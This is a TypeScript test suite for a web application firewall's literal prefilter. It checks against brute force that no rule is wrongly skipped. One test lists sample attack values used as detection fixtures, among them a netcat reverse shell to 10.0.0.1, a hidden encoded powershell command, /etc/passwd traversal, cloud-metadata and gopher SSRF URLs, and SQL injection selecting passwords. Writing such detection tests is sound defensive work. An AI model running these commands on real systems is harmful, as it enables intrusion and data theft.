/**
 * The prefilter may only skip a rule that cannot match (src/waf/required-literals.ts,
 * skeleton.ts, prefilter.ts). Checked three ways:
 * 1. the literal analysis on hand-written patterns;
 * 2. for every rule, thousands of random strings generated from the rule's own pattern (so they
 *    mostly match it, through every branch): each match holds a literal of every required set;
 * 3. the engine with its prefilter against brute force (every rule on every form, no pre-filter
 *    of any kind) on the same strings, on the held-out corpora's values, and on mutations of
 *    them (quotes, carets, case, whitespace runs, escapes): the same rules match.
 */
import t from 'tap';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { requiredLiterals } from '../../src/waf/required-literals.js';
import { isSimple, skeleton, skeletonClauses } from '../../src/waf/skeleton.js';
import { LiteralGroups } from '../../src/waf/literal-set.js';
import { RuleSet, Scan } from '../../src/waf/engine.js';
import { FormCache } from '../../src/waf/forms.js';
import { C_NONASCII, CLASS_OF_ASCII, charMask } from '../../src/waf/chars.js';
import { S_QUERY } from '../../src/waf/exclusions.js';
import { ALL_RULES } from '../../src/waf/rules/index.js';
import { inspectHead } from '../../src/waf/targets.js';
import { inspectBody, bodyKind } from '../../src/waf/body.js';
import { T_ANY_HEADER, T_FILENAME, T_HEADER, T_NAME, T_PATH, T_TEXT, T_UA, T_URLENC, T_VALUE, type Rule } from '../../src/waf/rule.js';
import { makeCtx } from './helpers.js';

void t.test('required literals of hand-written patterns', async (t) => {
  // Sets sorted, and sorted among themselves: the analysis orders them by selectivity.
  const req = (re: RegExp): string[][] => requiredLiterals(re).map((c) => [...c].sort()).sort((a, b) => (a.join() < b.join() ? -1 : 1));
  t.same(req(/abc/), [['abc']]);
  t.same(req(/ab|cd/), [['ab', 'cd']]);
  t.same(req(/\bunion ?select\b/), [['union select', 'unionselect']]);
  t.same(req(/[a-z]{1,40}/), [], 'a large class requires nothing');
  t.same(req(/x?/), [], 'an optional atom requires nothing');
  t.same(req(/(?<![\w.])select [\w.]{1,64} ?, ?[\w.]{1,64} from\b/), [[' from'], [','], ['select ']], 'a sequence requires what each part requires');
  t.same(req(/[^a]bc\d{1,3}de/), [['bc'], ['de']], 'adjacent exact parts are joined before anything is required of them');
  t.same(req(/['"`] ?(?:or|and)\b/).length, 1, 'quote and keyword fit one exact set');
  t.same(req(/(?:ab|c\d)/), [['ab', 'c']], 'each branch contributes what it requires');
  t.same(req(/a|\d/), [], 'one branch that requires nothing: nothing is required');
  t.same(req(/(?=abc)x/), [['x']], 'a lookahead adds no characters to the match');
  t.same(req(/\x41\u0042\.\n/), [['ab.\n']], 'escapes read as their characters, lower-cased');
  t.same(req(/é/), [], 'non-ASCII is "anything" (the automaton reads ASCII)');
  t.same(req(/(a)\1/), [['a']], 'a backreference is "anything"');
  t.same(req(/a{2,3}/), [['aa']]);
  t.same(req(/[ab]c/), [['ac', 'bc']]);
  t.same(req(/[^a]bc/), [['bc']]);
  t.same(req(/a\d{1,3}b/), [['a'], ['b']]);
  t.same(req(/x/u), [], 'no claims under the u flag');
  t.same(req(new RegExp('a\\c1')), [['a\\c1']], 'a `\\c` without a letter is a backslash and a c');
  t.ok(new RegExp('a\\c1').test('a\\c1'), 'as JavaScript reads it');
  t.same(req(/\cJx/), [['\nx']], 'a control escape is its character');
  const ascii = (l: string): boolean => [...l].every((c) => c.charCodeAt(0) < 0x80);
  const malformed = ALL_RULES.filter((r) => requiredLiterals(r.pattern).some((set) => set.length === 0 || set.some((l) => l.length === 0 || l !== l.toLowerCase() || !ascii(l))));
  t.same(malformed.map((r) => r.id), [], 'every rule\'s sets are non-empty, of non-empty lower-case ASCII literals');
  // Rules raised by code (targets 0: 920380, 920700–920702) have no pattern to speak of.
  const none = ALL_RULES.filter((r) => r.targets !== 0 && requiredLiterals(r.pattern).length === 0).map((r) => r.id);
  t.ok(none.length <= 3, `all but a few rules require literals (${none.join(', ')} do not)`);
  const stray = ALL_RULES.filter((r) => r.needs !== undefined && r.targets !== 0 && requiredLiterals(r.pattern).length > 0).map((r) => r.id);
  t.same(stray, [], 'only rules that require no literal declare `needs` (the others are derived)');
});

void t.test('the literal automaton finds overlapping literals in any ASCII case, per group', async (t) => {
  const set = new LiteralGroups([['he', 'she'], ['hers'], ['etc/'], ['\t']]);
  const found = (s: string): number[] => {
    const bits = new Uint32Array(set.words);
    set.scan(s, bits);
    return [0, 1, 2, 3].filter((g) => (bits[0]! & (1 << g)) !== 0);
  };
  t.same(found('ushers'), [0, 1]);
  t.same(found('SHE'), [0]);
  t.same(found('x/ETC/y'), [2]);
  t.same(found('a\tb'), [3]);
  for (const miss of ['', 'sh', 'etc', 'hxe', 'ÉTC/', 'h e']) t.same(found(miss), [], `nothing in ${JSON.stringify(miss)}`);
  t.throws(() => new LiteralGroups([['Upper']]), /lower-case ASCII/);
  const many = new LiteralGroups(Array.from({ length: 70 }, (_, i) => [`w${i}x`]));
  const bits = new Uint32Array(many.words);
  many.scan('..w69x..w3x', bits);
  t.same([...bits], [1 << 3, 0, 1 << (69 - 64)], 'groups past the first word');
});

void t.test('plain attack values reach their rules', async (t) => {
  const plainAttacks: [string, number, number][] = [
    ['1 union select password from users', 942160, T_VALUE], ['../../etc/passwd', 930110, T_VALUE], ['/etc/passwd', 930120, T_VALUE],
    ['http://localhost:8500/v1/agent/self', 934120, T_VALUE], ['http://2852039166/latest/meta-data/', 934110, T_VALUE],
    ['nc -e /bin/sh 10.0.0.1 4444', 932101, T_VALUE], ['powershell -nop -w hidden -enc SQBFAFgA', 932120, T_VALUE],
    ['1 OR true', 942150, T_VALUE], ['table_name FROM information_schema.tables', 942190, T_VALUE],
    ['class.module.classLoader.resources', 944120, T_NAME], ['constructor.prototype.x', 934130, T_NAME], ['__proto__', 934130, T_NAME],
    ['rO0ABXNyABFqYXZh', 944130, T_VALUE], ['gopher://127.0.0.1:6379/_x', 934122, T_VALUE], ['zip://uploads/a.jpg', 933110, T_VALUE],
    ['cmd.exe /c dir', 932170, T_VALUE], ['document.cookie', 941160, T_VALUE], ['JAVA.LANG.RUNTIME', 944100, T_VALUE],
    // Evasions the earlier hand-kept plain-value triggers let through: whitespace runs, a missing literal.
    ['nc   -e /bin/sh 10.0.0.1 4444', 932150, T_VALUE], ['1 union select @@servername', 942190, T_VALUE],
    ['new processbuilder', 944100, T_VALUE], ['x http:////169.254.169.254/latest/meta-data', 934110, T_VALUE],
  ];
  const rules = new RuleSet(1);
  for (const [v, rule, bits] of plainAttacks) t.ok(engine(rules, bits, v).includes(rule), `${rule} matches ${v}`);
});

void t.test('skeletons, and reading a value as its skeleton', async (t) => {
  t.equal(skeleton(`Ab 'c'  "d"\t\n^e`), 'ab c d e');
  t.equal(skeleton('HTTP://a//b/.../c..d'), 'http:/a/b/../c..d', 'slash runs folded, dot runs cut to two');
  t.same(skeletonClauses([["'", 'or'], ['un  ion', "x'y"]]), [['xy', 'un ion']], 'a set with a literal that is only dropped characters says nothing');
  t.ok(isSimple("Ring twice; nobody's in (3 - thanks!)", charMask("Ring twice; nobody's in")));
  for (const v of ['50%', 'a&b', 'a\\b', '/*x*/', '$x', 'a\x00b', 'café', 'a/./b']) t.notOk(isSimple(v, charMask(v)), `${JSON.stringify(v)} is not simple`);
  for (const v of ['https://example.com//x', 'wait...', "it's (1+2) - 3; <b>ok</b>?"]) t.ok(isSimple(v, charMask(v)), `${JSON.stringify(v)} is simple`);
  const groups = [['or'], ['a b'], ['x y'], [';'], ['/etc/'], ['../']];
  const a = new LiteralGroups(groups);
  for (const s of ['O"R', 'a  \t b', "x ' ' y", ';', 'nothing', "'o'r'", 'A\n\nB', '//etc//passwd', '.../', ".'./", "/'/etc"]) {
    const viaSkeleton = new Uint32Array(a.words);
    t.equal(a.scanSkeleton(s, viaSkeleton, CLASS_OF_ASCII, C_NONASCII), charMask(s), 'and the value\'s class mask in the same pass');
    const direct = new Uint32Array(a.words);
    a.scan(skeleton(s), direct);
    t.same([...viaSkeleton], [...direct], `scanSkeleton(${JSON.stringify(s)}) = scan(skeleton(…))`);
  }
});

// ---------------------------------------------------------------------------------------------
// Random strings from a pattern: a generator over the same regex syntax the rules use.

/** A small deterministic PRNG (mulberry32), so a failure reproduces. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let x = Math.imul(a ^ (a >>> 15), 1 | a);
    x = (x + Math.imul(x ^ (x >>> 7), 61 | x)) ^ x;
    return ((x ^ (x >>> 14)) >>> 0) / 4294967296;
  };
}

const PRINTABLE = Array.from({ length: 95 }, (_, i) => String.fromCharCode(0x20 + i)).join('') + '\t\n\r';
/** What a class is filled from: printable ASCII, a few controls, a few letters past ASCII. */
const CLASS_ALPHABET = [...PRINTABLE, '\x01', '\x08', '\x1f', '\x7f', 'é', 'ß', '\u00a0'];

/** One random string the regex source is likely to match (lookarounds and anchors are ignored). */
function generate(source: string, rnd: () => number): string {
  let pos = 0;
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
  const fromClass = (body: string): string => {
    const re = new RegExp(`[${body}]`);
    for (let tries = 0; tries < 200; tries++) {
      const c = pick(CLASS_ALPHABET);
      if (re.test(c)) return c;
    }
    return '';
  };
  const alternation = (): string => {
    const branches: string[] = [];
    let depth = 0;
    let start = pos;
    for (; pos < source.length; pos++) {
      const c = source[pos]!;
      if (c === '\\') pos++;
      else if (c === '[') {
        pos++;
        while (source[pos] !== ']') pos += source[pos] === '\\' ? 2 : 1;
      } else if (c === '(') depth++;
      else if (c === ')') {
        if (depth === 0) break;
        depth--;
      } else if (c === '|' && depth === 0) {
        branches.push(source.slice(start, pos));
        start = pos + 1;
      }
    }
    branches.push(source.slice(start, pos));
    return generate(pick(branches), rnd);
  };
  let out = '';
  // Reads one atom; returns a thunk producing one copy of it.
  const atom = (): (() => string) => {
    const c = source[pos]!;
    if (c === '(') {
      pos++;
      let look = false;
      if (source.startsWith('?:', pos)) pos += 2;
      else if (/^\?(?:=|!|<=|<!)/.test(source.slice(pos))) {
        look = true;
        pos += source[pos + 1] === '<' ? 3 : 2;
      }
      const from = pos;
      alternation();
      const inner = source.slice(from, pos);
      pos++; // )
      return look ? () => '' : () => generate(inner, rnd);
    }
    if (c === '[') {
      const from = pos + 1;
      pos++;
      while (source[pos] !== ']') pos += source[pos] === '\\' ? 2 : 1;
      const body = source.slice(from, pos);
      pos++;
      return () => fromClass(body);
    }
    if (c === '\\') {
      const e = source[pos + 1]!;
      pos += 2;
      if (e === 'b' || e === 'B') return () => '';
      if (e === 'd') return () => pick([...'0123456789']);
      if (e === 'w') return () => pick([...'abcxyz_019']);
      if (e === 's') return () => pick([' ', '\t', '\n']);
      if (e === 'x' || e === 'u') {
        const n = e === 'x' ? 2 : 4;
        const ch = String.fromCharCode(Number.parseInt(source.slice(pos, pos + n), 16));
        pos += n;
        return () => ch;
      }
      const esc: Record<string, string> = { n: '\n', r: '\r', t: '\t', v: '\v', f: '\f', '0': '\0' };
      const ch = esc[e] ?? e;
      return () => ch;
    }
    pos++;
    if (c === '.') return () => pick([...PRINTABLE]);
    if (c === '^' || c === '$') return () => '';
    return () => c;
  };
  while (pos < source.length) {
    if (source[pos] === '|') return rnd() < 0.5 ? out : generate(source.slice(pos + 1), rnd);
    const one = atom();
    let min = 1;
    let max = 1;
    const q = /^(?:\?|\*|\+|\{(\d+)(?:,(\d*))?\})\??/.exec(source.slice(pos));
    if (q !== null) {
      pos += q[0].length;
      if (q[0][0] === '?') [min, max] = [0, 1];
      else if (q[0][0] === '*') [min, max] = [0, 3];
      else if (q[0][0] === '+') [min, max] = [1, 3];
      else [min, max] = [Number(q[1]), q[2] === undefined ? Number(q[1]) : q[2] === '' ? Number(q[1]) + 3 : Math.min(Number(q[2]), Number(q[1]) + 4)];
    }
    const n = min + Math.floor(rnd() * (max - min + 1));
    for (let k = 0; k < n; k++) out += one();
  }
  return out;
}

/** The generated string in a random context: padding, upper case, sometimes a quote or a run of spaces. */
function inContext(s: string, rnd: () => number): string {
  const pad = ['', ' ', 'x', 'a1 ', "it's ", '\n', '  '];
  let v = pad[Math.floor(rnd() * pad.length)]! + s + pad[Math.floor(rnd() * pad.length)]!;
  if (rnd() < 0.2) v = v.toUpperCase();
  return v;
}

/** Small edits that keep a match likely but move characters the transforms care about. */
function mutations(v: string, rnd: () => number): string[] {
  const at = (): number => Math.floor(rnd() * (v.length + 1));
  const insert = (x: string): string => {
    const i = at();
    return v.slice(0, i) + x + v.slice(i);
  };
  const del = (): string => {
    const i = at();
    return v.slice(0, i) + v.slice(i + 1);
  };
  return [insert("'"), insert('"'), insert('^'), insert('  '), insert('\t'), insert('%27'), insert('/**/'), insert('\\'), del(), v.toUpperCase(), v.replace(/ /g, '  ')];
}

function formsOf(v: string): string[] {
  const f = new FormCache();
  f.reset(v);
  return [0, 1, 2, 3, 4, 5, 6].map((k) => f.get(k as 0));
}

/** Brute force: every rule that applies to `bits`, on every one of its forms, no pre-filter at all. */
function bruteForce(rules: readonly Rule[], bits: number, v: string): number[] {
  if (v.length === 0) return [];
  const forms = formsOf(v);
  return rules.filter((r) => (r.targets & bits) !== 0 && r.forms.some((f) => r.pattern.test(forms[f]!))).map((r) => r.id).sort();
}

function engine(rules: RuleSet, bits: number, v: string): number[] {
  const scan = new Scan();
  rules.inspect(scan, bits, v, S_QUERY, 'q');
  return (scan.ids ?? []).slice().sort();
}

const BITS = [T_VALUE | T_URLENC, T_VALUE, T_NAME, T_HEADER | T_ANY_HEADER, T_HEADER | T_ANY_HEADER | T_UA, T_PATH, T_TEXT, T_FILENAME, T_ANY_HEADER];

void t.test('every match of every rule holds its required literals (random strings from each pattern)', async (t) => {
  const rnd = prng(20261127);
  let matched = 0;
  let failures = 0;
  const unreached: string[] = [];
  for (const rule of ALL_RULES.filter((r) => r.targets !== 0)) {
    const clauses = requiredLiterals(rule.pattern);
    const skeletons = skeletonClauses(clauses);
    let hits = 0;
    for (let n = 0; n < 300; n++) {
      const base = inContext(generate(rule.pattern.source, rnd), rnd);
      for (const v of [base, ...mutations(base, rnd)]) {
        const forms = formsOf(v);
        for (const f of rule.forms) {
          const s = forms[f]!;
          if (!rule.pattern.test(s)) continue;
          hits++;
          const lower = s.toLowerCase();
          const missing = clauses.find((set) => !set.some((l) => lower.includes(l)));
          // For a simple value, the value's own skeleton must hold every skeleton set.
          const sk = skeleton(v);
          const skMissing = isSimple(v, charMask(v)) ? skeletons.find((set) => !set.some((l) => sk.includes(l))) : undefined;
          if (missing !== undefined || skMissing !== undefined) {
            failures++;
            if (failures <= 20) t.fail(`${rule.id} matches ${JSON.stringify(s)} without ${JSON.stringify(missing ?? skMissing)}`);
          }
        }
      }
    }
    matched += hits;
    // The generator must actually reach the pattern, or this test would prove nothing about it.
    if (hits < 30) unreached.push(`${rule.id} (${hits})`);
  }
  t.same(unreached, [], 'the generated strings match every rule at least 30 times');
  t.equal(failures, 0, `no match without its literals (${matched} matches checked)`);
});

/** Rule id → the first value on which engine and brute force disagree about it. */
class Disagreements {
  readonly first = new Map<string, string>();
  checked = 0;

  compare(rules: RuleSet, bits: number, v: string): void {
    const want = bruteForce(rules.rules, bits, v);
    const got = engine(rules, bits, v);
    this.checked++;
    for (const id of want) if (!got.includes(id) && !this.first.has(`missed ${id}`)) this.first.set(`missed ${id}`, `bits ${bits}: ${JSON.stringify(v).slice(0, 160)}`);
    for (const id of got) if (!want.includes(id) && !this.first.has(`extra ${id}`)) this.first.set(`extra ${id}`, `bits ${bits}: ${JSON.stringify(v).slice(0, 160)}`);
  }
}

void t.test('the engine finds what brute force finds: generated strings and mutations', async (t) => {
  const rnd = prng(7);
  for (const paranoia of [1, 4]) {
    const rules = new RuleSet(paranoia);
    const d = new Disagreements();
    for (const rule of rules.rules) {
      for (let n = 0; n < 40; n++) {
        const base = inContext(generate(rule.pattern.source, rnd), rnd);
        for (const v of [base, ...mutations(base, rnd)]) for (const bits of BITS) d.compare(rules, bits, v);
      }
    }
    t.same(Object.fromEntries(d.first), {}, `paranoia ${paranoia}: ${d.checked} value × target combinations agree`);
  }
});

/** Every (bits, value) the stage would inspect for each request of the held-out corpora. */
function corpusValues(): [number, string][] {
  const dir = join(import.meta.dirname, 'fixtures');
  const out: [number, string][] = [];
  const spy = { inspect: (_scan: Scan, bits: number, value: string): void => void out.push([bits, value]) } as unknown as RuleSet;
  for (const f of readdirSync(dir).filter((n) => n.endsWith('.jsonl'))) {
    for (const raw of readFileSync(join(dir, f), 'utf8').split('\n')) {
      if (raw.trim() === '') continue;
      const line = JSON.parse(raw) as { uri: string; headers: [string, string][]; body?: string };
      const q = line.uri.indexOf('?');
      const headers: Record<string, string> = {};
      for (const [k, v] of line.headers) headers[k.toLowerCase()] = v;
      const ctx = makeCtx({ path: q < 0 ? line.uri : line.uri.slice(0, q), query: q < 0 ? '' : line.uri.slice(q + 1), headers });
      inspectHead(spy, new Scan(), ctx);
      const kind = bodyKind(headers['content-type']);
      if (line.body !== undefined && line.body !== '' && kind !== null) inspectBody(spy, new Scan(), kind, headers['content-type'], Buffer.from(line.body));
    }
  }
  return out;
}

void t.test('the engine finds what brute force finds: corpus values and their mutations', async (t) => {
  const rnd = prng(42);
  const values = corpusValues();
  t.ok(values.length > 2000, `${values.length} values from the held-out corpora`);
  const rules = new RuleSet(2);
  const d = new Disagreements();
  for (const [bits, v] of values) for (const m of [v, ...mutations(v, rnd).slice(0, 4)]) d.compare(rules, bits, m);
  t.same(Object.fromEntries(d.first), {}, `${d.checked} values agree`);
});
